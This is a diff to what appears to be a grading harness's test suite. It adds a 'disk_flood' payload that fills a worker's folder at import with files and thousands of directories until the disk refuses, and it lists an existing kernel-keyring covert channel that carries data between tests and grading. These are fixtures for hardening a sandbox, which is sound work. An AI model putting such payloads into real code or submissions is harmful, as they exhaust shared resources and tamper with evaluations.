@@ -436,9 +436,35 @@ ALIASED_ANSWER = '''
 '''
 
 
+DISK_FLOOD = '''
+    def _flood():
+        # Fills the worker's scratch folder (its cwd) at import: 2 MB files up to 512 MB, then empty
+        # folders up to 20000, each until the file system refuses. Every worker that imports
+        # likelihood.py floods its own folder (section 6 tests a stand-in likelihood module, so
+        # their checkpoints still find room); the rest of the file is the solution's.
+        import os as _os
+        block = b"\\0" * (2 << 20)
+        try:
+            for i in range(256):
+                with open(f"flood-{i}", "wb") as out:
+                    out.write(block)
+        except OSError:
+            pass
+        try:
+            for i in range(20000):
+                _os.mkdir(f"d{i}")
+        except OSError:
+            pass
+    _flood()
+'''
+
+
 def _container_attacks():
     probability = solution("probability.py")
     return [
+        Attack("disk_flood", "likelihood.py fills its scratch folder at import with 2 MB files (up to 512 MB) and "
+               "then empty folders (up to 20000); otherwise correct",
+               {"likelihood.py": prepend(solution("likelihood.py"), DISK_FLOOD)}, {}, root_only=True),
         Attack("keyring_channel", "probability.py adds a key to the uid's kernel keyring at import and "
                "kl_divergence fails when it can read one: a channel from one test (or grading) to the next",
                {"probability.py": in_function(prepend(probability, KEY_CHANNEL), "def kl_divergence(", KEY_READER)},
